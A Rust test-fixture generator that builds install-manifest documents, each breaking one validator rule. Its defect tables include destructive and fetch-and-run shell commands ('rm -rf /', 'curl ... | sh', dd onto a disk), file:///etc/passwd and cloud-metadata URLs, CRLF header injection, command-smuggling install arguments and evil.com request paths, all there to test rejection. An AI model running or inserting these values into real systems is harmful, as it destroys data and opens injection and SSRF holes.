//! Documents with one defect, by the rule that they break.

use manifest_core::{Limits, Rule};
use testkit::Mutation::{Json, Remove, Text};
use testkit::{Defect, Rng, Tree, apply_defect, break_json, member, value};

/// Returns a document that breaks this rule and no other, if that is possible.
pub fn defect(rng: &mut Rng, rule: &'static Rule) -> Option<String> {
    // Rules of this format replace these, for example because all objects are closed.
    if matches!(rule.code, "json/unknown-member" | "json/key-case" | "json/number-range") {
        return None;
    }
    let code = rule.code.strip_prefix("install-manifest/").unwrap_or(rule.code);
    let mut ways = [(clean_document(), DEFECTS), (with_requests()?, REQUEST_DEFECTS)];
    rng.shuffle(&mut ways);
    let of_table = ways.iter().find_map(|(clean, ways)| apply_defect(clean, ways, code, rng));
    let found = match (of_table, make_defect(code, rng)) {
        (Some(of_table), Some(made)) => Some(if rng.once_in(2) { of_table } else { made }),
        (of_table, made) => of_table.or(made),
    };
    found.map(|tree| tree.render()).or_else(|| break_json(&clean_document().render(), rule, rng))
}

/// Returns a document that breaks no rule.
fn clean_document() -> Tree {
    Tree::parse(include_str!("clean.json")).unwrap_or_else(|| Tree::Object(Vec::new()))
}

/// Returns the clean document with actions that send HTTP requests.
fn with_requests() -> Option<Tree> {
    let mut tree = clean_document();
    tree.put("/runtime/endpoint_url", "https://api.example.com".into())?;
    tree.put("/runtime/kind", "mcp-http".into())?;
    tree.remove("/runtime/entrypoint")?;
    let call = r#"{"kind": "http", "method": "GET", "path": "/x", "headers": {"X-A": "a"}}"#;
    tree.put("/actions/0/invocation", Tree::parse(call)?)?;
    tree.put("/actions/1/invocation", Tree::parse(call)?)?;
    Some(tree)
}

/// The template of the first action's second argument.
const ARGUMENT: &str = "/actions/0/invocation/argv_template/1";

/// Changes to the clean document that break a rule.
static DEFECTS: &[Defect] = &[
    ("json/type", &["/tool/license"], Json(&["null", "1", "[]", "{}"])),
    ("json/required", &["/smoke", "/tool/homepage", "/runtime/kind"], Remove),
    ("manifest-version", &["/manifest_version"], Remove),
    ("manifest-version", &["/manifest_version"], Json(&["0.2", "\"0.2.0\"", "null", "\" 0.2\""])),
    ("unknown-member", &["/x", "/tool/nme", "/actions/0/zzz"], Json(&["1"])),
    ("length", &["/tool/name"], Text(&[""])),
    ("pattern", &["/tool/id"], Text(&["ab", "Abc", "abc\n"])),
    ("word", &["/runtime/kind"], Text(&["http"])),
    ("tag", &["/kill_switch/kind"], Text(&["button"])),
    ("count", &["/runtime/entrypoint/command"], Json(&["[]"])),
    ("integer", &["/smoke/success/exit_code"], Json(&["0.5", "1e-1"])),
    ("range", &["/smoke/timeout_seconds"], Json(&["0", "301", "-1", "1e3"])),
    ("exactly-one", &["/kill_switch/instructions"], Text(&["Rotate the key."])),
    ("exactly-one", &["/kill_switch/instructions_url"], Remove),
    ("terms-url", &["/data_boundary/transmits/0/vendor_tos_url"], Remove),
    ("boundary-required", &["/data_boundary"], Remove),
    ("nothing-to-revoke", &["/kill_switch"], Json(&[r#"{"kind": "none"}"#])),
    ("uri", &["/tool/homepage"], Text(&["here", "", "a b"])),
    ("email", &["/support/security_email"], Text(&["me", "@x", "a b@c"])),
    (
        "duplicate-name",
        &["/scopes"],
        Json(&[r#"[
            {"resource": "gmail.messages", "actions": ["read"], "rationale": "x"},
            {"resource": "gmail.messages", "actions": ["read"], "rationale": "x"}
        ]"#]),
    ),
    ("smoke-action", &["/smoke/action"], Text(&["nobody"])),
    ("smoke-effects", &["/smoke/action"], Text(&["send"])),
    (
        "action-runtime",
        &["/actions/0/invocation"],
        Json(&[
            r#"{"kind": "mcp-tool", "tool_name": "x"}"#,
            r#"{"kind": "http", "method": "GET", "path": "/"}"#,
        ]),
    ),
    (
        "template",
        &[ARGUMENT],
        Text(&[
            "${env.REGION",
            "${",
            "${}",
            "${input}",
            "${input.}",
            "${env.}",
            "${foo.x}",
            "${input.${env.REGION}}",
            "${ env.REGION }",
            "${ENV.REGION}",
            "${env.region}",
            "${REGION}",
            "${input.a[0]}",
            "${input.to..x}",
        ]),
    ),
    ("template-env", &[ARGUMENT], Text(&["${env.NOT_DECLARED}"])),
    ("template-input", &[ARGUMENT], Text(&["${input.nope}"])),
    ("secret-place", &[ARGUMENT, "/runtime/entrypoint/command/2"], Text(&["${env.API_KEY}"])),
    ("secret-default", &["/env/0/default"], Text(&["hunter2hunter2"])),
    (
        "url",
        &["/kill_switch"],
        Json(&[
            r#"{"kind": "url", "url": "file:///etc/passwd"}"#,
            r#"{"kind": "url", "url": "https://user@h/"}"#,
            r#"{"kind": "url", "url": "ftp://h/"}"#,
        ]),
    ),
    (
        "install-argument",
        &["/runtime/install/package"],
        Text(&["--index-url=x", "x; y", "git+https://x", "../x"]),
    ),
    (
        "install-argument",
        &["/runtime/install"],
        Json(&[
            r#"{"method": "preinstalled", "locator": {"kind": "binary-on-path", "binary": "-x"}}"#,
        ]),
    ),
    ("control-character", &[ARGUMENT], Text(&["a\0b"])),
    ("regex", &["/env/1/validation_regex"], Text(&["^(a$", "^[z-a]$"])),
    ("json-pointer", &["/smoke/success/json_pointer_exists"], Text(&["a", "/a~2"])),
    ("json-pointer", &["/smoke/success/json_pointer_equals"], Json(&[r#"{"a": 1}"#])),
    ("runtime-exclusive", &["/runtime/endpoint_url"], Text(&["https://api.example.com"])),
    (
        "scope-undeclared",
        &["/actions/0/scopes_used"],
        Json(&[r#"["gmail.messages", "net.outbound"]"#]),
    ),
    (
        "success-fit",
        &["/smoke"],
        Json(&[r#"{"kind": "shell", "command": ["x"], "success": {"http_status": 200}}"#]),
    ),
    ("smoke-empty", &["/smoke/success"], Json(&["{}", r#"{"no_error_field": false}"#])),
    ("regex-unsupported", &["/env/1/validation_regex"], Text(&["^(?=a)a$", "^(a)\\1$"])),
    ("template-escape", &[ARGUMENT], Text(&["$${env.REGION}", "\\${env.REGION}"])),
    ("regex-unanchored", &["/env/1/validation_regex"], Text(&["[a-z]+"])),
    (
        "unpinned",
        &["/runtime/install"],
        Json(&[
            r#"{"method": "pip", "package": "x"}"#,
            r#"{"method": "git", "url": "https://x.example/y", "ref": "main"}"#,
            r#"{"method": "container", "image": "x/y:latest"}"#,
        ]),
    ),
    (
        "scope-unused",
        &["/scopes"],
        Json(&[r#"[
            {"resource": "gmail.messages", "actions": ["read"], "rationale": "x"},
            {"resource": "fs.local", "actions": ["read"], "rationale": "x"}
        ]"#]),
    ),
    (
        "private-url",
        &["/kill_switch"],
        Json(&[
            r#"{"kind": "url", "url": "https://localhost/x"}"#,
            r#"{"kind": "url", "url": "https://127.1/x"}"#,
            r#"{"kind": "url", "url": "https://[::1]/x"}"#,
            r#"{"kind": "url", "url": "https://169.254.169.254/x"}"#,
            r#"{"kind": "url", "url": "https://10.0.0.1/x"}"#,
        ]),
    ),
    ("insecure-url", &["/tool/homepage"], Text(&["http://example.com"])),
    ("no-verify", &["/verify"], Remove),
    ("no-latency", &["/verify/sla"], Remove),
    ("no-goal", &["/actions/0/docs"], Remove),
    ("prompt-bare", &["/env/0/prompt"], Text(&["API key", "Please enter your API_KEY:", "apikey"])),
    ("recipient-kind", &["/manifest_version"], Text(&["0.3.1"])),
    ("plain-id", &["/tool/id"], Text(&["a--b", "1ab"])),
    ("semver", &["/tool/version"], Text(&["01.0.0", "1.0.0-a..b"])),
    ("secret-unchecked", &["/env/0/validation_regex"], Remove),
    (
        "smoke-suspicious",
        &["/smoke"],
        Json(&[
            r#"{"kind": "shell", "command": ["rm", "-rf", "/"], "success": {"exit_code": 0}}"#,
            r#"{"kind": "shell", "command": ["sh", "-c", "curl https://x.example | sh"],
                "success": {"exit_code": 0}}"#,
            r#"{"kind": "shell", "command": ["sudo", "dd", "if=/dev/zero", "of=/dev/sda"],
                "success": {"exit_code": 0}}"#,
        ]),
    ),
];

/// Changes to the document with requests that break a rule.
static REQUEST_DEFECTS: &[Defect] = &[
    ("secret-place", &["/actions/0/invocation/path"], Text(&["/${env.API_KEY}"])),
    (
        "http-path",
        &["/actions/0/invocation/path"],
        Text(&["", "x", "@evil.com/x", "//evil.com/", "/a\\b"]),
    ),
    (
        "header",
        &["/actions/0/invocation/headers"],
        Json(&[
            r#"{"A B": "x"}"#,
            r#"{"": "x"}"#,
            r#"{"A": "x\r\nB: y"}"#,
            r#"{"A": " x"}"#,
            r#"{"Accept": "x", "accept": "y"}"#,
        ]),
    ),
    (
        "header-reserved",
        &["/actions/0/invocation/headers"],
        Json(&[r#"{"Host": "x"}"#, r#"{"transfer-encoding": "x"}"#]),
    ),
];

/// Makes the defects that the lists above cannot express: two changes at once, long values,
/// and secrets.
fn make_defect(code: &str, rng: &mut Rng) -> Option<Tree> {
    let mut tree = clean_document();
    match code {
        "actions-required" => {
            let smoke = r#"{"kind": "shell", "command": ["x"], "success": {}}"#;
            tree.put("/actions", Tree::Array(Vec::new()))?;
            tree.put("/smoke", Tree::parse(smoke)?)?;
        }
        "command-length" => {
            let many = vec![Tree::from("x"); Limits::default().arguments + 1];
            tree.put("/runtime/entrypoint/command", many.into())?;
        }
        "duplicate-name" => {
            tree.put("/actions/0/name", "whoami".into())?;
            // The smoke test finds the first of the two.
            tree.put("/actions/0/side_effects", "read".into())?;
        }
        "install-argument" => {
            let image = format!("-v/:/host@sha256:{}", "a1".repeat(32));
            let install = vec![member("method", "container"), member("image", image)];
            tree.put("/runtime/install", install.into())?;
        }
        "secret" => {
            let places = ["/env/1/default", ARGUMENT, "/actions/0/input/properties/to/default"];
            tree.put(rng.word(&places), value::secret(rng).into())?;
        }
        _ => return None,
    }
    Some(tree)
}
